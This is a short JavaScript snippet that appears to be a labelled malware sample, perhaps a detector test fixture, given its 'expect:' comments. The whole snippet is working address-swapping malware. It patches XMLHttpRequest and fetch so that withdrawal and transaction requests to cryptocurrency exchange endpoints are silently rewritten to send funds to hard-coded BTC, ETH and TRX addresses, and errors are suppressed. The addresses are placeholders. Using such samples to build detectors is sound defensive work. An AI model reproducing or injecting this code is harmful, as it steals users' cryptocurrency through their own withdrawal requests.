!function () {
  const A = { BTC: "bc1q0000000000000000000000000000000000000a", ETH: "0x00000000000000000000000000000000000000aa", TRX: "T000000000000000000000000000000000a" };
  const routes = [
    { re: /withdraw\/capital\/submit/, f: (b) => { b.address = A[b.asset] || b.address; delete b.addressTag; return b; } },
    // expect: wallet-requests-changed
    { re: /v2\/accounts\/[^/]+\/transactions/, f: (b) => { if (b.to) b.to = A[b.currency] || b.to; return b; } },
    { re: /_api\/payment\/withdraw/, f: (b) => { b.address = A[b.currency]; return b; } },
  ];
  const open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
  // expect: patches-page-functions
  XMLHttpRequest.prototype.open = function (m, u) { this.__u = u; return open.apply(this, arguments); };
  // expect: patches-page-functions
  XMLHttpRequest.prototype.send = function (body) {
    try {
      for (const r of routes) if (r.re.test(this.__u)) { body = JSON.stringify(r.f(JSON.parse(body))); }
    } catch (e) {}
    return send.call(this, body);
  };
  const f = window.fetch;
  // expect: patches-page-functions
  window.fetch = function (u, o) {
    try { for (const r of routes) if (o && o.body && r.re.test(u.url || u)) o.body = JSON.stringify(r.f(JSON.parse(o.body))); } catch (e) {}
    return f.call(this, u, o);
  };
}();
